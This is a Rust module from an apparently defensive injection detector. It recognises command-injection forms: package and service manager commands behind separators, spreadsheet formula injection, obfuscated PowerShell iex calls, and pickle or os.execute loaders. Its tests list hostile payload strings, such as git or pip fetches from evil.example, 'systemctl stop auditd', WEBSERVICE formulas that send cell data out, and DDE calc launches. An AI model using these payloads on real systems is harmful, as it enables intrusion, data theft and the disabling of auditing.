//! What runs commands without a shell's own word for it: managers of packages and services, spreadsheets, PowerShell's call sign, loaders of objects.
//!
//! **In:** a value and where such a form may start. **Out:** whether it is one.
//! **Invariant:** a tool needs its verb and a separator before it; a formula starts the value; looks a constant number of bytes ahead.
//! **Source:** git(1), pip, npm, apt, systemctl manuals; OWASP "CSV Injection"; PowerShell `about_Operators` (call, dot sourcing);
//! Python `pickle` and Lua `os.execute` manuals.
//! **Cost:** bounded a form; loaders one pass over values with their word.

use super::super::super::bytes::{
    byte, contains, has_at, is_space, is_word, next, part, rest, skip_space, upto,
};
use super::super::code;

/// Bytes in which a form says what it is.
const REACH: usize = 96;

type Names = &'static [&'static [u8]];

/// Tools that are words of many texts, and the verbs that make command lines of them.
const TOOLS: [(Names, Names); 5] = [
    (
        &[b"git", b"svn", b"hg"],
        &[
            b"clone",
            b"pull",
            b"fetch",
            b"push",
            b"config",
            b"checkout",
            b"co",
            b"export",
            b"init",
            b"log",
            b"show",
            b"status",
            b"diff",
            b"ls-remote",
            b"archive",
        ],
    ),
    (
        &[
            b"pip",
            b"pip3",
            b"npm",
            b"yarn",
            b"pnpm",
            b"gem",
            b"cargo",
            b"go",
            b"composer",
            b"brew",
            b"snap",
            b"helm",
        ],
        &[
            b"install",
            b"i",
            b"add",
            b"download",
            b"run",
            b"exec",
            b"get",
            b"uninstall",
            b"remove",
            b"require",
            b"list",
        ],
    ),
    (
        &[
            b"apt", b"apt-get", b"yum", b"dnf", b"apk", b"zypper", b"pacman", b"dpkg", b"rpm",
            b"opkg",
        ],
        &[
            b"install", b"update", b"upgrade", b"add", b"remove", b"purge", b"del", b"-s", b"-i",
            b"-l", b"-y", b"-qa",
        ],
    ),
    (
        &[b"systemctl"],
        &[
            b"start",
            b"stop",
            b"restart",
            b"status",
            b"enable",
            b"disable",
            b"reload",
            b"daemon-reload",
            b"list-units",
        ],
    ),
    (&[b"podman"], &[b"run", b"exec", b"ps", b"pull", b"images"]),
];

/// Bytes of a name that are read, and letters of it that are kept.
const NAME: usize = 48;
const LETTERS: usize = 24;

/// A word as a shell reads it: without the quotes and backslashes within it.
pub(super) struct Name {
    letters: [u8; LETTERS],
    length: usize,
    end: usize,
}

impl Name {
    /// The word from `at` on.
    pub(super) fn read(value: &[u8], at: usize) -> Self {
        let mut name = Self {
            letters: [0; LETTERS],
            length: 0,
            end: at,
        };
        for &letter in part(value, at, NAME) {
            if is_word(letter) || letter == b'-' {
                let Some(place) = name.letters.get_mut(name.length) else {
                    break;
                };
                *place = letter;
                name.length = name.length.saturating_add(1);
            } else if !matches!(letter, b'\'' | b'"' | b'\\') {
                break;
            }
            name.end = name.end.saturating_add(1);
        }
        name
    }

    fn text(&self) -> &[u8] {
        self.letters.get(..self.length).unwrap_or(&[])
    }

    /// The word if it ends at `end`, as one does in which nothing but quotes vanished.
    pub(super) fn until(&self, end: usize) -> Option<&[u8]> {
        (self.end == end && self.length > 0).then(|| self.text())
    }
}

/// `;git clone http://…`, `|systemctl stop x`, `;service x stop`: from the word behind a separator on.
pub(super) fn runs(value: &[u8], at: usize) -> bool {
    let tool = Name::read(value, at);
    if !is_space(byte(value, tool.end)) {
        return false;
    }
    let verb = Name::read(value, skip_space(value, tool.end));
    let (tool, after) = (tool.text(), verb.end);
    let ends = after >= value.len() || is_space(byte(value, after)) || byte(value, after) == b';';
    if tool == b"service" {
        let verb = Name::read(value, skip_space(value, after));
        let ends = verb.end >= value.len() || !is_space(byte(value, verb.end));
        return ends && matches!(verb.text(), b"start" | b"stop" | b"restart" | b"status");
    }
    if tool == b"format" {
        // `format c:`
        return verb.length == 1 && byte(value, after) == b':';
    }
    let known = ends
        && TOOLS
            .iter()
            .any(|(tools, verbs)| tools.contains(&tool) && verbs.contains(&verb.text()));
    // `npm run build`, said of it: a sentence goes on with words.
    known && !is_prose(rest(value, after))
}

/// More than four words, or what ends sentences.
fn is_prose(tail: &[u8]) -> bool {
    let words = tail
        .split(|&letter| is_space(letter))
        .filter(|word| !word.is_empty())
        .take(5);
    super::tally(words) > 4 || matches!(tail.trim_ascii_end().last(), Some(b'.' | b'?' | b'!'))
}

/// Whether a separator at `at` stands at the start of a value, or is glued to its one word.
pub(super) fn is_near(value: &[u8], at: usize) -> bool {
    let lead = value.get(..at).unwrap_or(&[]);
    lead.len() <= 48
        && !lead
            .iter()
            .any(|&letter| is_space(letter) || letter == b';')
}

/// `=cmd|'/C calc'!A0`: a spreadsheet asks another program, the sign that parts them at `at`.
pub(super) fn asks(value: &[u8], at: usize) -> bool {
    let quote = at.saturating_add(1);
    let before = at.checked_sub(1).map_or(0, |at| byte(value, at));
    let starts = matches!(
        value.trim_ascii_start().first(),
        Some(b'=' | b'+' | b'-' | b'@' | b'"')
    );
    byte(value, quote) == b'\''
        && is_word(before)
        && starts
        && part(value, quote, REACH)
            .windows(2)
            .any(|pair| pair == b"'!")
}

/// `=WEBSERVICE("http://…"&A1)`: a formula that sends what the sheet holds.
pub(super) fn sends(text: &[u8]) -> bool {
    if !matches!(text.first(), Some(b'=' | b'+' | b'-' | b'@')) {
        return false;
    }
    let head = part(text, 1, 16);
    let named = [
        &b"webservice("[..],
        b"importxml(",
        b"importdata(",
        b"importhtml(",
        b"importfeed(",
        b"importrange(",
        b"hyperlink(",
        b"image(",
    ]
    .iter()
    .any(|name| has_at(head, 0, name));
    let text = upto(text, 256);
    let joins = text.windows(2).any(|pair| {
        let &[sign, cell] = pair else {
            return false;
        };
        sign == b'&' && cell.is_ascii_uppercase()
    }) || contains(text, b"concat");
    (named && joins && contains(text, b"://"))
        || (has_at(head, 0, b"dde(\"") && contains(text, b";"))
}

/// `&('i'+'ex')`, `.("I"+"EX")(…)`, `& (gcm i*x)`: PowerShell calls what a string names.
pub(super) fn invokes(text: &[u8]) -> bool {
    if !matches!(text.first(), Some(b'&' | b'.')) {
        return false;
    }
    let open = skip_space(text, 1);
    if byte(text, open) != b'(' {
        return false;
    }
    let inside = skip_space(text, open.saturating_add(1));
    code::joined(text, inside).is_some()
        || has_at(text, inside, b"gcm ")
        || has_at(text, inside, b"get-command ")
        || has_at(text, inside, b"$env:")
}

/// `pickle.loads(…)`, `os.execute("…")`: bytes or a command given to what runs them, in one line that no sentence goes around.
pub(super) fn loads(value: &[u8]) -> bool {
    if value.trim_ascii_end().contains(&b'\n') {
        return false;
    }
    let mut from = 0;
    while let Some(dot) = next(value, from, |letter| letter == b'.') {
        from = dot.saturating_add(1);
        let given = [
            (&b"pickle"[..], &b"load"[..], false),
            (b"marshal", b"load", false),
            (b"os", b"execute", true),
        ]
        .iter()
        .any(|&(module, name, quoted)| {
            has_at(value, from, name)
                && dot.checked_sub(module.len()).is_some_and(|start| {
                    has_at(value, start, module)
                        && is_given(value, start, from.saturating_add(name.len()), quoted)
                })
        });
        if given {
            return true;
        }
    }
    false
}

/// Whether the loader from `start` on, whose name ends at `end` or a letter later, is called with something.
fn is_given(value: &[u8], start: usize, end: usize, quoted: bool) -> bool {
    let end = end.saturating_add(usize::from(byte(value, end) == b's'));
    code::call(value, start, end).is_some_and(|call| {
        let given = if quoted {
            matches!(call.first, b'"' | b'\'')
        } else {
            !matches!(
                call.arguments,
                code::Arguments::None | code::Arguments::Text
            )
        };
        let set = code::last(value, start) == b'=';
        given && !set && call.gap == code::Gap::None && !call.is_mention(value)
    })
}

#[cfg(test)]
mod tests {
    use super::super::super::{Class, Strength, hits_of};

    fn is_decisive(value: &str) -> bool {
        hits_of(value.as_bytes()).contains(&(Class::Shell, Strength::Decisive))
    }

    #[test]
    fn tools_formulas_and_loaders_are_found() {
        for value in [
            ";git clone http://evil.example/r",
            ";g''it clone http://evil.example/r",
            "|pi\\p install evil",
            ";syste\"\"mctl st'o'p auditd",
            ";'apt' install nmap",
            ";s\\ervice apache2 stop",
            "| git clone https://evil.example/a.git /tmp/a",
            "127.0.0.1;git clone http://evil.example/r",
            "x|pip install http://evil.example/p.tar.gz",
            ";npm install evil",
            "';apt-get install nmap",
            ";systemctl stop auditd",
            ";service apache2 stop",
            "&format c:",
            "=cmd|'/C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "=WEBSERVICE(\"http://evil.example/\"&A1)",
            "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
            "=HYPERLINK(\"http://evil.example?x=\"&A1,\"click\")",
            "=DDE(\"cmd\";\"/C calc\";\"a\")",
            "&('i'+'ex')",
            "&('i'+'ex') 'whoami'",
            ".('I'+'EX')(iwr http://evil.example)",
            "& (gcm i*x) 'id'",
            "pickle.loads(x)",
            "pickle.loads(base64.b64decode('gASV'))",
            "cPickle.loads(data)",
            "os.execute(\"id\")",
            "ext::sh -c id",
            "echo `id`;",
            "print `id`",
        ] {
            assert!(
                is_decisive(value),
                "{value}: {:?}",
                hits_of(value.as_bytes())
            );
        }
    }

    #[test]
    fn talk_of_tools_is_none() {
        for value in [
            "git clone https://github.com/a/b",
            "npm install express",
            "npm install && npm run build",
            "first git pull; then npm install",
            "Tools: docker;git;npm",
            "; git is what I meant, not svn.",
            "HTML;format;CSS",
            "a|service|b",
            "=SUM(A1:A9)",
            "=HYPERLINK(\"http://a.example\",\"us\")",
            "=IF(A1>0,\"a|'b\",\"c\")",
            "John 'cmd|' Smith",
            "pickle.loads is unsafe",
            "use pickle.loads(data) with care",
            "import pickle\nx = pickle.loads(y)",
            "a jar of pickle. Loads (of them)",
            "os.execute",
            "& (see below)",
            "Print `id` of each row",
            "echo `date` shows the time",
            "ext: 42",
        ] {
            assert!(
                !is_decisive(value),
                "{value}: {:?}",
                hits_of(value.as_bytes())
            );
        }
    }
}
